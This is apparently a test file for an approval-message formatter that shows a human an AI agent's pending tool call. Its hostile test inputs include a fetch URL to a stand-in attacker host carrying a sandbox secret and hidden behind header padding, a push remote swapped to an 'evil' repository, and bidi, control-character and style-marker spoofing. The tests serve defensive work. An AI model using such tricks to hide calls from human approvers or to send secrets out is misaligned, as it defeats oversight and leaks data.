// The approval request on the phone: everything a person needs to decide, in one bounded message, and nothing the
// agent wrote able to restyle, reorder or hide it.
import { describe, expect, it } from 'vitest';
import {
  escalationMessage,
  maximumEscalationMessageLength,
  resolutionMessage,
  type EscalationTicket,
} from '../src/domain/escalation-text.js';
import { parseStyledLikeSignal, styleAt } from './styled-text-oracle.js';

const now = new Date('2026-08-17T14:00:00.000Z');

function ticketWith(overrides: Partial<EscalationTicket> = {}): EscalationTicket {
  return {
    id: 'esc_3f9a0c1d2e4b5a6c',
    callId: 'call-1',
    sessionId: 'session-7',
    serverName: 'git',
    toolName: 'git_push',
    canonicalArguments: { path: '/home/me/site', remote: 'github.com/acme/site', branch: 'main' },
    argsHash: 'hash',
    reason: 'Pushing to a remote needs approval',
    rule: 'escalate-git-push',
    escalatedRoles: ['git-remote-url'],
    argumentRoles: { path: ['read-path'], remote: ['git-remote-url'], branch: ['branch-name'] },
    createdAt: '2026-08-17T13:59:00.000Z',
    expiresAt: '2026-08-17T14:04:30.000Z',
    status: 'pending',
    autoApproved: false,
    ...overrides,
  };
}

/** The message as the phone shows it, checked to parse cleanly and to fit. */
function shownMessage(ticket: EscalationTicket, label = 2, at = now) {
  const styled = escalationMessage(ticket, label, at);
  expect(styled.length).toBeLessThanOrEqual(maximumEscalationMessageLength);
  const parsed = parseStyledLikeSignal(styled);
  expect(parsed.unclosed).toBe(0);
  const styles = styleAt(parsed);
  /** The styled pieces of the shown text: [text, style] for each maximal styled stretch. */
  const stretches: [string, string][] = [];
  [...parsed.text].reduce((position, character) => {
    const style = styles[position] ?? '';
    const last = stretches.at(-1);
    if (style !== '' && last !== undefined && last[1] === style && styles[position - 1] === style)
      last[0] += character;
    else if (style !== '') stretches.push([character, style]);
    return position + character.length;
  }, 0);
  return { styled, text: parsed.text, stretches };
}

describe('escalationMessage', () => {
  it('says what is asked, why, which label, until when and how to answer', () => {
    const { text, stretches } = shownMessage(ticketWith());
    expect(text.split('\n')).toEqual([
      'Approval needed #2: git.git_push',
      'Why: Pushing to a remote needs approval (rule escalate-git-push)',
      'Session session-7, ticket 3f9a0c',
      '• remote [git-remote-url, escalated]: "github.com/acme/site"',
      '• path [read-path]: "/home/me/site"',
      '• branch [branch-name]: "main"',
      'Expires in 4 min 30 s, at 14:04:30 UTC.',
      'Answer approve #2 or deny #2.',
    ]);
    expect(stretches).toEqual([
      ['Approval needed #2', 'BOLD'],
      ['git.git_push', 'MONOSPACE'],
      ['"github.com/acme/site"', 'MONOSPACE'],
      ['"/home/me/site"', 'MONOSPACE'],
      ['"main"', 'MONOSPACE'],
      ['approve #2', 'BOLD'],
      ['deny #2', 'BOLD'],
    ]);
  });

  it('shows what the agent asked for beside what will run, where they differ', () => {
    const { text } = shownMessage(
      ticketWith({
        canonicalArguments: { path: '/home/me/site', remote: 'github.com/evil/site' },
        requestedArguments: { path: '/home/me/site', remote: 'origin', force: true },
      }),
    );
    expect(text).toContain(
      '• remote [git-remote-url, escalated]:\n  asked: "origin"\n  will run: "github.com/evil/site"\n',
    );
    expect(text).toContain('• path [read-path]: "/home/me/site"\n');
    expect(text).toContain('• force:\n  asked: true\n  will run: (not passed on)\n');
  });

  it('neutralizes bidi overrides, zero-width joiners and C0/C1 controls in every field', () => {
    const hostile = 'evil\u202Etxt.exe\u2066\u200D\u200B\u0000\u001b[2J\u009b\u0085\u{E0041}';
    const { styled } = shownMessage(
      ticketWith({
        serverName: `git${hostile}`,
        toolName: `push${hostile}`,
        reason: `reason${hostile}`,
        rule: `rule${hostile}`,
        canonicalArguments: { [`name${hostile}`]: `value${hostile}`, remote: `github.com/a\u202E/b` },
        requestedArguments: { remote: `origin${hostile}` },
      }),
    );
    expect(/[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]|(?!\n)\p{Cc}/u.test(styled)).toBe(false);
    expect(styled).toContain('\\u202e');
    expect(styled).toContain('\\u200d');
  });

  it('never lets style markers in the arguments set a style, even with backslashes around them', () => {
    const values = [
      '**bold**',
      '*it*',
      '~strike~',
      '`code`',
      '||spoiler||',
      'ends with \\',
      '\\*',
      '***',
      'a\\**b',
    ];
    const canonicalArguments = Object.fromEntries(values.map((value, index) => [`arg${index}`, value]));
    const { text, stretches } = shownMessage(ticketWith({ canonicalArguments, argumentRoles: {} }));
    for (const [index, value] of values.entries()) {
      expect(text).toContain(`• arg${index}: ${JSON.stringify(value)}\n`);
    }
    // Only whole values are monospace; nothing in them is bold, italic, struck or hidden.
    const styledValues = stretches.filter(([, style]) => style === 'MONOSPACE').map(([stretch]) => stretch);
    for (const stretch of styledValues.slice(1)) {
      expect(values.map((value) => JSON.stringify(value))).toContainEqual(
        expect.stringContaining(stretch.replace(/\\$/, '')),
      );
    }
    expect(stretches.filter(([, style]) => style !== 'MONOSPACE')).toEqual([
      ['Approval needed #2', 'BOLD'],
      ['approve #2', 'BOLD'],
      ['deny #2', 'BOLD'],
    ]);
  });

  it('puts the escalated URL first and whole, and cuts the padding visibly (issue 13 on the phone)', () => {
    const url = 'https://collect.attacker.example/collect?d=sandbox-secret-42';
    const padding = 'x'.repeat(900);
    const { text } = shownMessage(
      ticketWith({
        serverName: 'fetch',
        toolName: 'http_fetch',
        canonicalArguments: {
          headers: Object.fromEntries([1, 2, 3, 4, 5].map((index) => [`X-Pad-${index}`, padding])),
          format: 'text',
          url,
        },
        argumentRoles: { url: ['fetch-url'], headers: ['none'], format: ['none'] },
        escalatedRoles: ['fetch-url'],
      }),
    );
    const lines = text.split('\n');
    expect(lines[3]).toBe(`• url [fetch-url, escalated]: "${url}"`);
    expect(lines[4]).toMatch(/^• headers \[none\]: \{"X-Pad-1":"x+… \(\d+ more characters\)$/);
    expect(lines[5]).toBe('• format [none]: "text"');
  });

  it('stays within 1,500 characters with huge values and many arguments, and says what it left out', () => {
    const canonicalArguments = Object.fromEntries(
      Array.from({ length: 60 }, (_, index) => [`argument${index}`, `${'v'.repeat(5000)}*~\``]),
    );
    const { styled, text } = shownMessage(ticketWith({ canonicalArguments, argumentRoles: {} }));
    expect(styled.length).toBeLessThanOrEqual(1500);
    expect(text).toMatch(/^• argument0: "v+… \(\d+ more characters\)"?$/m);
    expect(text).toMatch(
      /… \d+ more arguments are not shown here \(ironcurtain escalations shows all\)\. Deny if unsure\./,
    );
    expect(text.endsWith('Answer approve #2 or deny #2.')).toBe(true);
    const huge = shownMessage(ticketWith({ canonicalArguments: { only: 'x'.repeat(100_000) } }));
    expect(huge.text).toMatch(/• only: "x+… \(\d+ more characters\)\n/);
  });

  it('cuts values between grapheme clusters and never inside an escape', () => {
    const { text } = shownMessage(
      ticketWith({
        canonicalArguments: { emoji: '👋🏾'.repeat(2000), bidi: '\u202E'.repeat(2000) },
        argumentRoles: { emoji: ['none'], bidi: ['none'] },
      }),
    );
    const emojiLine = text.split('\n').find((line) => line.startsWith('• emoji')) ?? '';
    expect(emojiLine).toMatch(/^• emoji \[none\]: "(👋🏾)+… \(\d+ more characters\)$/u);
    const bidiLine = text.split('\n').find((line) => line.startsWith('• bidi')) ?? '';
    expect(bidiLine).toMatch(/^• bidi \[none\]: "(\\u202e)+… \(\d+ more characters\)$/);
  });

  it('says "No arguments." for a call without any', () => {
    expect(shownMessage(ticketWith({ canonicalArguments: {} })).text).toContain('\nNo arguments.\n');
  });

  it('gives the time left in the right unit, the date when it is not today, and says when it has expired', () => {
    const expiring = (expiresAt: string) => shownMessage(ticketWith({ expiresAt })).text.split('\n').at(-2);
    expect(expiring('2026-08-17T14:00:42.000Z')).toBe('Expires in 42 s, at 14:00:42 UTC.');
    expect(expiring('2026-08-17T14:05:00.000Z')).toBe('Expires in 5 min, at 14:05:00 UTC.');
    expect(expiring('2026-08-17T16:30:00.000Z')).toBe('Expires in 2 h 30 min, at 16:30:00 UTC.');
    expect(expiring('2026-08-19T15:00:00.000Z')).toBe('Expires in 2 d 1 h, at 2026-08-19 15:00:00 UTC.');
    expect(expiring('2026-08-17T16:00:00.000+02:00')).toBe(
      'Expired at 14:00:00 UTC: an answer now is refused, and the call is not made.',
    );
    expect(expiring('not a time')).toBe('The expiry time is unknown: answer soon.');
  });
});

describe('resolutionMessage', () => {
  const ticketId = 'esc_3f9a0c1d2e4b5a6c';

  it('says who answered where, or that it expired', () => {
    expect(resolutionMessage({ ticketId, status: 'approved', approver: 'alice', channel: 'cli' }, 2)).toBe(
      '#2 was approved by alice (cli).',
    );
    expect(resolutionMessage({ ticketId, status: 'denied', approver: 'bob', channel: 'listener' }, 1)).toBe(
      '#1 was denied by bob (listener): the call was not made.',
    );
    expect(resolutionMessage({ ticketId, status: 'approved', approver: 'auto', autoApproved: true }, 3)).toBe(
      '#3 was approved by the auto-approver.',
    );
    expect(resolutionMessage({ ticketId, status: 'approved', approver: 'whitelist' }, 3)).toBe(
      '#3 was approved by the session whitelist.',
    );
    expect(resolutionMessage({ ticketId, status: 'expired' }, 4)).toBe(
      '#4 expired unanswered: the call was not made.',
    );
    expect(resolutionMessage({ ticketId, status: 'pending' }, 4)).toBe('#4 is still waiting for an answer.');
  });

  it('names the ticket by its short code without a label', () => {
    expect(resolutionMessage({ ticketId, status: 'expired' }, undefined)).toBe(
      'Ticket 3f9a0c expired unanswered: the call was not made.',
    );
  });

  it('shows hostile names inert and without style markers (it reads the same in normal and styled mode)', () => {
    const message = resolutionMessage(
      { ticketId, status: 'weird\u202E**x**', approver: 'al\u200Dice*', channel: '`cli`\n' },
      2,
    );
    expect(message).toBe('#2 is now weird\\u202e\\x2a\\x2ax\\x2a\\x2a.');
    const approved = resolutionMessage(
      { ticketId, status: 'approved', approver: 'al\u200Dice*', channel: '`cli`\n' },
      2,
    );
    expect(approved).toBe('#2 was approved by al\\u200dice\\x2a (\\x60cli\\x60\\x0a).');
    expect(parseStyledLikeSignal(approved).text).toBe(approved);
  });
});
